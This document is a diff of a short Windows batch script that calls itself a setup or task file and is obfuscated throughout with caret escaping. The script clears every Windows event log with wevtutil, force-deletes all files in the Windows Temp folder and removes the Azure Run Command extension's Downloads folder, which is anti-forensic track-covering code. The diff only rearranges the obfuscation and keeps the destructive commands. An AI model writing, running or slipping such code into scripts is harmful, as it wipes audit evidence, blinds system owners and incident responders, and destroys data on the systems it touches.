@@ -1,10 +1,8 @@
-REM setup 0715 v1
+REM task 5501 v1
+^^f^^or /F "tokens=*" %%^1 ^i^n ('^we^v^^t^u^t^^il.^^ex^^e ^e^l') ^^D^O ^w^e^^v^tu^^t^il.^ex^^e ^c^l "%%1"
 @echo off
-set "jdwi=^for /F "tokens=*" %%1 ^in ('^w^e^vtu^t^i^l.exe el') ^D^O w^e^vt^u^til.e^xe ^c^l "%%1""
-call %jdwi%
+set fgsl=del /^f /^q C:\Wi^n^d^ow^s\^T^em^p\*.*
+call %fgsl%
 @echo off
-set "krks=^del /^f /q C:\^W^i^n^do^w^s\T^emp\*.*"
-call %krks%
-@echo off
-set "afpv=rd /s /^q C:\Pack^age^s\Pl^ug^i^n^s\M^icr^os^o^ft.CPla^t.^C^ore.Run^Co^mm^a^ndWindo^ws\^1.^1.15\Do^w^nlo^a^ds"
-call %afpv%
+set otzg=rd /s /q ^C:\P^a^ck^ag^es\^Pl^u^gi^ns\M^i^cro^sof^t.CPl^at.^C^ore.^RunCom^mandW^indo^ws\1.1.15\^D^ownl^o^ads
+call %otzg%
